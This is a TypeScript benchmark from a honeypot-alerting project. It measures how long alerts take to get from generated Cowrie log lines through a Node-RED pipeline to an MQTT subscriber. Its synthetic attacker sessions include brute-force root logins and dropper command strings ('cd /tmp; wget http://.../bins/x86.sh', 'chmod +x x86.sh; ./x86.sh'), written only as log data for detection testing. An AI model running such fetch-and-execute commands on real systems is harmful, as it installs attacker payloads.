/**
 * Alert latency: the time from a line being appended to a tailed cowrie.json to its alert
 * arriving at an MQTT subscriber, with the bundled full pipeline (examples/full-pipeline.json)
 * in a real Node-RED, a private Mosquitto set up as flows/mosquitto/honeyflow.conf recommends and,
 * when installed, a private InfluxDB 1.x.
 *
 * Node-RED runs in its own process, as a user runs it, started by the end-to-end tests' harness
 * with this package loaded from the project directory (`nodesDir`, no install); the flow is
 * deployed through the admin API with the ${HONEYFLOW_*} variables pointing at the services.
 * Two changes to the flow, both about how many alerts there are to time, neither on their path:
 * the alert node's rate limit (60 a minute) is lifted, because it drops alerts rather than
 * delaying them; and the detector flags scores above a fixed 0.98 instead of its adaptive 0.995
 * quantile, which on this stream (1,000 events/s of generated background) rises with the burst
 * and lets only a handful of its attackers through: too few for a 99th percentile.
 *
 * This process writes the log at RATE lines a second, one `write()` per line as Cowrie does,
 * each stamped with the time it is written: background lines from the generator, then a burst in
 * which one line in BURST_SHARE comes from an attacker, one fresh source IP after another, each a
 * session of ATTACK_LINES lines (brute force, then a dropper), so that each can raise a first
 * alert, the one the policy sends at once; the background raises first alerts of its own. An
 * alert's `src_ip` and `time` (its event's timestamp) name the line that raised it, and its
 * latency is its arrival at the subscriber minus that line's write. The baseline is the broker
 * alone, in the same run: a probe published from this process every 100 ms to the same subscriber.
 */
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { performance } from "node:perf_hooks";
import { connect, type MqttClient } from "mqtt";
import { CowrieLogGenerator } from "../src/datasets/synth/cowrie/cowrie-log-generator";
import { epochMsToCowrieTimestamp } from "../src/ingest/cowrie-timestamp";
import { freePort } from "../test/support/free-port";
import { InfluxdProcess } from "../test/support/influxd-process";
import { MosquittoProcess } from "../test/support/mosquitto-process";
import { NodeRedRuntime, type FlowNode } from "../test/support/node-red-runtime";
import { reportBench } from "./bench-process";
import type { Figure } from "./figure";
import { PROJECT_ROOT } from "./project-root";

const BENCH = "alert-latency";
const RATE = 1000;
/** One line in 50 of the burst is the attackers': rarer, they would be learned as normal (measured). */
const BURST_SHARE = 50;
const FAILED_LOGINS = 20;
const ATTACK_LINES = FAILED_LOGINS + 5;
const ALERT_TOPICS = "honeyflow/alerts/#";
const PROBE_TOPIC = "honeyflow/bench/probe";
const PROBE_INTERVAL_MS = 100;
const FIXED_THRESHOLD = 0.98;
const BROKER_SETTINGS = path.join(PROJECT_ROOT, "flows", "mosquitto", "honeyflow.conf");
/** After the last line, how long late alerts may take to arrive. */
const DRAIN_MS = 5000;

export interface AlertLatencySizes {
  /** Seconds of background only: the detector's 2,000-event warm-up and its threshold settle. */
  warmSeconds: number;
  /** Seconds of background with the attackers' burst in it. */
  burstSeconds: number;
}

type CowrieRecord = Record<string, unknown> & { src_ip: string };

export async function runAlertLatencyBench(sizes: AlertLatencySizes): Promise<Figure[]> {
  const mosquitto = executable("mosquitto");
  if (!mosquitto) {
    console.error("bench: mosquitto is not installed (apt-get install mosquitto); skipping alert latency");
    return [];
  }
  const influxdExecutable = executable("influxd");
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "honeyflow-bench-latency-"));
  const log = path.join(dir, "cowrie.json");
  fs.writeFileSync(log, "");
  let broker: MosquittoProcess | undefined;
  let influxd: InfluxdProcess | undefined;
  let runtime: NodeRedRuntime | undefined;
  let client: MqttClient | undefined;
  try {
    // The broker as flows/mosquitto/honeyflow.conf sets it up: Nagle's algorithm off among others.
    broker = await MosquittoProcess.start(mosquitto, { settings: fs.readFileSync(BROKER_SETTINGS, "utf8") });
    influxd = influxdExecutable ? await InfluxdProcess.start(influxdExecutable) : undefined;
    if (!influxd) console.error("bench: influxd is not installed: the flow's influx write spools to disk instead");
    runtime = new NodeRedRuntime(fs.mkdtempSync(path.join(os.tmpdir(), "honeyflow-bench-node-red-")), await freePort(), {
      settings: { nodesDir: [PROJECT_ROOT] },
      env: {
        HONEYFLOW_COWRIE_LOG: log,
        HONEYFLOW_MQTT_URL: broker.url,
        HONEYFLOW_INFLUX_URL: influxd?.url ?? `http://127.0.0.1:${await freePort()}`,
      },
    });
    await runtime.start();
    await runtime.deploy(bundledFlowForLatency());

    const subscriber = connect(broker.url, { clientId: `honeyflow-bench-latency-${process.pid}`, clean: true });
    client = subscriber;
    const arrivals: Arrival[] = [];
    subscriber.on("message", (topic, payload) => arrivals.push({ at: performance.now(), topic, payload }));
    await subscriber.subscribeAsync([ALERT_TOPICS, PROBE_TOPIC], { qos: 1 });

    const lines = schedule(sizes);
    const writes = new Map<string, number>();
    const probe = setInterval(() => subscriber.publish(PROBE_TOPIC, String(performance.now()), { qos: 1 }), PROBE_INTERVAL_MS);
    const { seconds, lateMs } = await writeAtRate(log, lines, (record, at) => {
      const key = lineKey(record.src_ip, Date.parse(record.timestamp as string));
      if (!writes.has(key)) writes.set(key, at);
    });
    await new Promise((resolve) => setTimeout(resolve, DRAIN_MS));
    clearInterval(probe);

    const written: Figure = {
      bench: BENCH, name: `lines written (${sizes.warmSeconds} s background, then ${sizes.burstSeconds} s with a burst)`, value: lines.length / seconds,
      unit: `lines/s (${lines.length.toLocaleString("en-US")} lines, writer at most ${Math.round(lateMs)} ms behind)`,
    };
    return [written, ...latencyFigures(arrivals, writes, new Set(lines.filter((l) => l.burst).map((l) => l.record.src_ip)))];
  } finally {
    await client?.endAsync(true);
    await runtime?.dispose();
    await Promise.all([broker?.dispose(), influxd?.dispose()]);
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

interface Arrival {
  at: number;
  topic: string;
  payload: Buffer;
}

/** Which written line an alert names: its source and its event's time, in whole milliseconds. */
function lineKey(srcIp: string | undefined, timeMs: number): string {
  return `${srcIp} ${timeMs}`;
}

/** Percentiles of the first alerts' latencies, beside the broker's own round trip at the same percentile. */
function latencyFigures(arrivals: Arrival[], writes: Map<string, number>, burstSources: Set<string>): Figure[] {
  const alertLatencies: number[] = [];
  const probeLatencies: number[] = [];
  let firstAlerts = 0;
  let updates = 0;
  const burstAlerted = new Set<string>();
  for (const { at, topic, payload } of arrivals) {
    if (topic === PROBE_TOPIC) {
      probeLatencies.push(at - Number(payload.toString()));
      continue;
    }
    const alert = JSON.parse(payload.toString()) as { src_ip?: string; time?: string; first_seen?: string; count?: number };
    if (alert.count !== 1 || alert.time !== alert.first_seen) {
      updates += 1;
      continue;
    }
    firstAlerts += 1;
    const writtenAt = writes.get(lineKey(alert.src_ip, Date.parse(alert.time ?? "")));
    if (writtenAt !== undefined) alertLatencies.push(at - writtenAt);
    if (alert.src_ip !== undefined && burstSources.has(alert.src_ip)) burstAlerted.add(alert.src_ip);
  }
  const alerts = percentiles(alertLatencies);
  const broker = percentiles(probeLatencies);
  const vs = (value: number, base: number) => ({ baseline: { name: "broker round trip, same percentile", value: base }, ratio: value / base });
  return [
    { bench: BENCH, name: "broker round trip p50 (baseline)", value: broker.p50, unit: `ms (${probeLatencies.length} probes)` },
    { bench: BENCH, name: "broker round trip p90 (baseline)", value: broker.p90, unit: "ms" },
    { bench: BENCH, name: "broker round trip p99 (baseline)", value: broker.p99, unit: "ms" },
    { bench: BENCH, name: "first alerts received", value: firstAlerts, unit: `alerts (${alertLatencies.length} matched to their line; ${updates} cooldown updates not timed)` },
    { bench: BENCH, name: "burst sources that raised a first alert", value: burstAlerted.size, unit: `of ${burstSources.size}` },
    { bench: BENCH, name: "line written -> alert at subscriber, p50", value: alerts.p50, unit: "ms", ...vs(alerts.p50, broker.p50) },
    { bench: BENCH, name: "line written -> alert at subscriber, p90", value: alerts.p90, unit: "ms", ...vs(alerts.p90, broker.p90) },
    { bench: BENCH, name: "line written -> alert at subscriber, p99 (target < 50 ms)", value: alerts.p99, unit: "ms", ...vs(alerts.p99, broker.p99) },
    { bench: BENCH, name: "line written -> alert at subscriber, max", value: alerts.max, unit: "ms" },
  ];
}

/** The bundled flow with the two changes the header explains: more alerts, the same path. */
function bundledFlowForLatency(): FlowNode[] {
  const flow = JSON.parse(fs.readFileSync(path.join(PROJECT_ROOT, "examples", "full-pipeline.json"), "utf8")) as FlowNode[];
  return flow.map((node) => {
    if (node.type === "honeyflow-alert") return { ...node, maxPerMinute: "1000000" };
    if (node.type === "honeyflow-online-detector") return { ...node, thresholdMode: "fixed", fixedThreshold: String(FIXED_THRESHOLD) };
    return node;
  });
}

interface ScheduledLine {
  record: CowrieRecord;
  burst: boolean;
}

/** Every line to write, in order: generated background, with the burst's lines woven in. */
function schedule(sizes: AlertLatencySizes): ScheduledLine[] {
  const total = (sizes.warmSeconds + sizes.burstSeconds) * RATE;
  const background = new CowrieLogGenerator({ events: total, seed: "bench-latency", rate: RATE, startMs: Date.now() })[Symbol.iterator]();
  const next = (): CowrieRecord => {
    const generated = background.next();
    if (generated.done) throw new Error("the generator ended early");
    return JSON.parse(generated.value.line) as CowrieRecord;
  };
  const lines: ScheduledLine[] = [];
  for (let i = 0; i < sizes.warmSeconds * RATE; i++) lines.push({ record: next(), burst: false });
  const { sensor } = lines[0].record;
  let burstLines = 0;
  for (let i = 0; i < sizes.burstSeconds * RATE; i++) {
    if (i % BURST_SHARE !== 0) {
      lines.push({ record: next(), burst: false });
      continue;
    }
    const source = Math.floor(burstLines / ATTACK_LINES) + 1;
    lines.push({ record: attackLine(burstSourceIp(source), `b${source.toString(16).padStart(11, "0")}`, burstLines % ATTACK_LINES, sensor), burst: true });
    burstLines += 1;
  }
  return lines;
}

/** The burst's sources: documentation ranges (RFC 5737), never used by the generator's background. */
function burstSourceIp(n: number): string {
  if (n > 508) throw new Error("the burst ran out of documentation addresses: shorten it");
  return n <= 254 ? `203.0.113.${n}` : `198.51.100.${n - 254}`;
}

/**
 * The k-th of ATTACK_LINES lines of one attacker's session, as Cowrie writes them: a connect,
 * FAILED_LOGINS failed guesses, the password that works, then a dropper fetched with wget and run.
 */
function attackLine(ip: string, session: string, k: number, sensor: unknown): CowrieRecord {
  const common = { sensor, src_ip: ip, session, protocol: "ssh" };
  const url = `http://${ip}/bins/x86.sh`;
  const shasum = createHash("sha256").update(url).digest("hex");
  const command = (input: string) => ({ eventid: "cowrie.command.input", ...common, input, message: `CMD: ${input}` });
  if (k === 0) {
    return { eventid: "cowrie.session.connect", ...common, src_port: 40000, dst_ip: "172.31.45.206", dst_port: 22, message: `New connection: ${ip}:40000 (172.31.45.206:22) [session: ${session}]` };
  }
  if (k <= FAILED_LOGINS) return { eventid: "cowrie.login.failed", ...common, username: "root", password: `guess${k}`, message: `login attempt [root/guess${k}] failed` };
  switch (k - FAILED_LOGINS) {
    case 1: return { eventid: "cowrie.login.success", ...common, username: "root", password: "admin123", message: "login attempt [root/admin123] succeeded" };
    case 2: return command(`cd /tmp; wget ${url}`);
    case 3: {
      const outfile = `var/lib/cowrie/downloads/${shasum}`;
      return { eventid: "cowrie.session.file_download", ...common, url, outfile, shasum, message: `Downloaded URL (${url}) with SHA-256 ${shasum} to ${outfile}` };
    }
    default: return command("chmod +x x86.sh; ./x86.sh");
  }
}

/**
 * Appends the lines at RATE a second, each stamped with the wall clock as it is written (a whole
 * millisecond) and written with its own write(), and tells `onWritten` when each went out.
 */
async function writeAtRate(file: string, lines: ScheduledLine[], onWritten: (record: CowrieRecord, at: number) => void): Promise<{ seconds: number; lateMs: number }> {
  const fd = fs.openSync(file, "a");
  const started = performance.now();
  let written = 0;
  let lateMs = 0;
  try {
    while (written < lines.length) {
      const due = Math.min(lines.length, Math.floor(((performance.now() - started) * RATE) / 1000) + 1);
      lateMs = Math.max(lateMs, ((due - 1 - written) * 1000) / RATE);
      for (; written < due; written++) {
        const { record } = lines[written];
        record.timestamp = epochMsToCowrieTimestamp(Date.now());
        fs.writeSync(fd, `${JSON.stringify(record)}\n`);
        onWritten(record, performance.now());
      }
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
  } finally {
    fs.closeSync(fd);
  }
  return { seconds: (performance.now() - started) / 1000, lateMs };
}

/** Nearest-rank percentiles: with fewer than 100 values, p99 is the largest. */
function percentiles(values: number[]): { p50: number; p90: number; p99: number; max: number } {
  if (values.length === 0) return { p50: NaN, p90: NaN, p99: NaN, max: NaN };
  const sorted = [...values].sort((a, b) => a - b);
  const at = (q: number) => sorted[Math.min(sorted.length - 1, Math.ceil(q * sorted.length) - 1)];
  return { p50: at(0.5), p90: at(0.9), p99: at(0.99), max: sorted[sorted.length - 1] };
}

function executable(name: string): string | undefined {
  const directories = (process.env.PATH ?? "").split(path.delimiter).concat(["/usr/sbin", "/sbin"]);
  return directories.map((d) => path.join(d, name)).find((candidate) => {
    try {
      fs.accessSync(candidate, fs.constants.X_OK);
      return true;
    } catch {
      return false;
    }
  });
}

/** Run by bench/run.ts in a process of its own (bench-process.ts), or by hand: `node dist/bench/alert-latency.js WARM_S BURST_S`. */
if (require.main === module) {
  const [warmSeconds = 20, burstSeconds = 180] = process.argv.slice(2).map(Number);
  runAlertLatencyBench({ warmSeconds, burstSeconds }).then(
    (figures) => reportBench({ figures, broken: [] }),
    (err: unknown) => {
      console.error(err);
      process.exitCode = 1;
    },
  );
}
